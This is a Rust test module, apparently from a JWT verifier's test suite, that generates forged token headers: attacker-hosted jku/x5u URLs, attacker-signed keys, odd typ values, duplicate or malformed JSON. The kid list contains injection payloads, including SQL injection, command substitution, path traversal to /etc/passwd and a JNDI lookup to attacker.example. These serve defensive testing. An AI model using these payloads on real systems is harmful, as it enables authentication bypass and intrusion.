//! What a header has no say in: where the key is from, what the receiver must understand.

use serde_json::{Value, json};
use testkit::tokens::{ACCESS_TOKEN_KEY, ID_TOKEN_KEY};

use crate::{
    Attempt, Genuine,
    attacks::key_sets::{ATTACKERS_KEY, attackers_jwk},
};

pub(super) fn all(genuine: &Genuine) -> Vec<Attempt> {
    [
        members(genuine),
        keys_brought_along(genuine),
        types(genuine),
        key_ids(genuine),
        texts(genuine),
    ]
    .concat()
}

/// Even under the user pool's own signature: none of its tokens has these.
fn members(genuine: &Genuine) -> Vec<Attempt> {
    let members = [
        ("jku", json!("https://attacker.example/jwks.json")),
        ("jwk", attackers_jwk()),
        ("jwk", json!(null)),
        ("x5u", json!("https://attacker.example/chain.pem")),
        ("x5c", json!(["MIIB"])),
        ("x5t", json!("dGh1bWJwcmludA")),
        ("x5t#S256", json!("dGh1bWJwcmludA")),
        ("crit", json!(["exp"])),
        ("crit", json!([])),
        ("crit", json!(null)),
        ("b64", json!(false)),
        ("b64", json!(true)),
        ("cty", json!("JWT")),
        ("enc", json!("A256GCM")),
        ("zip", json!("DEF")),
        ("epk", json!({})),
        ("apu", json!("")),
        ("apv", json!("")),
        ("iv", json!("")),
        ("tag", json!("")),
        ("p2s", json!("")),
    ];
    members
        .into_iter()
        .map(|(name, value)| {
            let attempt = format!("header with {name} {value}");
            Attempt::new(attempt, genuine.headed(name, value))
        })
        .collect()
}

/// A key of the attacker's own, and the header says where to find it.
fn keys_brought_along(genuine: &Genuine) -> Vec<Attempt> {
    let ways = [
        ("jku", json!("https://attacker.example/jwks.json")),
        ("jwk", attackers_jwk()),
        ("x5u", json!("https://attacker.example/chain.pem")),
        ("x5c", json!(["MIIB"])),
        ("x-none", json!(null)),
    ];
    let mut attempts = Vec::new();
    for (name, value) in ways {
        for id in [ACCESS_TOKEN_KEY.id, ATTACKERS_KEY.id] {
            let mut header = json!({ "alg": "RS256", "kid": id });
            header[name] = value.clone();
            let attempt = format!("signed by the attacker as {id}, with {name}");
            attempts.push(Attempt::new(
                attempt,
                genuine.signed_by(&ATTACKERS_KEY, &header),
            ));
        }
    }
    attempts
}

fn types(genuine: &Genuine) -> Vec<Attempt> {
    let kinds = [
        json!("JWE"),
        json!("id+jwt"),
        json!("dpop+jwt"),
        json!("logout+jwt"),
        json!("JWT "),
        json!("application/application/jwt"),
        json!(""),
        json!(null),
        json!(1),
        json!(["JWT"]),
    ];
    kinds
        .into_iter()
        .map(|kind| Attempt::new(format!("typ {kind}"), genuine.headed("typ", kind)))
        .collect()
}

fn key_ids(genuine: &Genuine) -> Vec<Attempt> {
    let own = ACCESS_TOKEN_KEY.id;
    let ids: Vec<Value> = vec![
        json!(null),
        json!(1),
        json!(true),
        json!([own]),
        json!({ "kid": own }),
        json!(""),
        json!("unknown"),
        json!(own.to_uppercase()),
        json!(format!("{own} ")),
        json!(format!(" {own}")),
        json!(format!("{own}\0")),
        json!(format!("{own}\n")),
        json!(own.trim_end_matches('=')),
        json!(own.replace('+', "-")),
        json!(own.replace('+', "%2B")),
        json!(ID_TOKEN_KEY.id),
        json!("k".repeat(129)),
        json!("k".repeat(5_000)),
        json!("../../../../../../dev/null"),
        json!("/dev/null"),
        json!("file:///etc/passwd"),
        json!("https://attacker.example/key"),
        json!("..%2f..%2fjwks"),
        json!("' OR '1'='1"),
        json!("x' UNION SELECT 'secret' --"),
        json!("$(id)"),
        json!("`id`"),
        json!("{{7*7}}"),
        json!("${jndi:ldap://attacker.example}"),
        json!("__proto__"),
    ];
    let mut attempts: Vec<Attempt> = ids
        .into_iter()
        .map(|id| {
            let name: String = id.to_string().chars().take(60).collect();
            Attempt::new(format!("kid {name}"), genuine.headed("kid", id))
        })
        .collect();
    let header = r#"{"alg":"RS256"}"#;
    attempts.push(Attempt::new("no kid", genuine.with_header(header)));
    attempts
}

/// Headers that are no object which says each thing once.
fn texts(genuine: &Genuine) -> Vec<Attempt> {
    let own = genuine.header();
    let inner = own.trim_matches(['{', '}']);
    let texts = [
        (
            "alg twice, none first",
            format!(r#"{{"alg":"none",{inner}}}"#),
        ),
        (
            "alg twice, none last",
            format!(r#"{{{inner},"alg":"none"}}"#),
        ),
        ("alg twice alike", format!(r#"{{{inner},"alg":"RS256"}}"#)),
        (
            "alg twice, once escaped",
            format!(r#"{{{inner},"\u0061lg":"HS256"}}"#),
        ),
        (
            "kid twice, another first",
            format!(r#"{{"kid":"unknown",{inner}}}"#),
        ),
        (
            "kid twice, another last",
            format!(r#"{{{inner},"kid":"unknown"}}"#),
        ),
        (
            "kid twice, once escaped",
            format!(r#"{{{inner},"\u006bid":"unknown"}}"#),
        ),
        (
            "a repeated member inside",
            format!(r#"{{{inner},"x":{{"a":1,"a":1}}}}"#),
        ),
        ("an array", format!("[{own}]")),
        ("a text", json!(own).to_string()),
        ("null", "null".to_owned()),
        ("a number", "1".to_owned()),
        ("nothing", String::new()),
        ("two objects", format!("{own}{own}")),
        ("garbage behind it", format!("{own}x")),
        ("a byte order mark before it", format!("\u{feff}{own}")),
        ("a NUL behind it", format!("{own}\0")),
        ("single quotes", own.replace('"', "'")),
        ("a comment", format!("{own}/* */")),
        ("a trailing comma", format!("{{{inner},}}")),
        (
            "too many levels",
            format!(r#"{{{inner},"x":{}{}}}"#, "[".repeat(500), "]".repeat(500)),
        ),
    ];
    texts
        .into_iter()
        .map(|(name, text)| Attempt::new(format!("header: {name}"), genuine.with_header(text)))
        .collect()
}
